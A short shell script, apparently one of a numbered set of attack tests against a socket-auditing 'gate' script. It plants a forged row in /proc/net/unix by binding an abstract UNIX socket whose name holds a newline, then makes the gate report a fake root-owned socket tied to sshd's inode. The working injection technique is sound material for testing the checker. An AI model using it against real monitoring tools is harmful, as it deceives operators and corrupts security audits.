#!/bin/sh
# /proc/net/unix prints a socket's path as its bytes: a newline in a name the deploy login binds starts a row of
# its own in what the gate parses. The forged row names the inode of a root process's socket (sshd's listener, read
# from /proc/net/tcp by anyone) and a path: the gate then reports a root UNIX socket that does not exist, held by
# sshd, "reachable" (its path not looked at). A false alarm the deploy login raises at will, with words of its own.
# Usage: attack9/atk_unix_row.sh /tmp/atk9
set -eu
W=${1:-/tmp/atk9}
ssh -F $W/ssh_config deployer 'cat > /tmp/row.py <<"EOF"
import socket, time
ino = next(l.split()[9] for l in open("/proc/net/tcp").read().splitlines()[1:] if l.split()[1].endswith(":0016"))
fake = "\n0000000000000000: 00000002 00000000 00010000 0001 01 %s /run/root-shell.sock" % ino
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.bind("\0x" + fake); s.listen(1); time.sleep(600)
EOF
nohup python3 /tmp/row.py >/dev/null 2>&1 & echo $! > /tmp/row.pid; sleep 1; grep -B1 root-shell /proc/net/unix'
echo "--- the gate (read-only, as admin):"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - UNIX" | cut -c1-400 || true
[ -n "${KEEP:-}" ] || ssh -F $W/ssh_config deployer 'kill $(cat /tmp/row.pid); rm -f /tmp/row.pid /tmp/row.py'
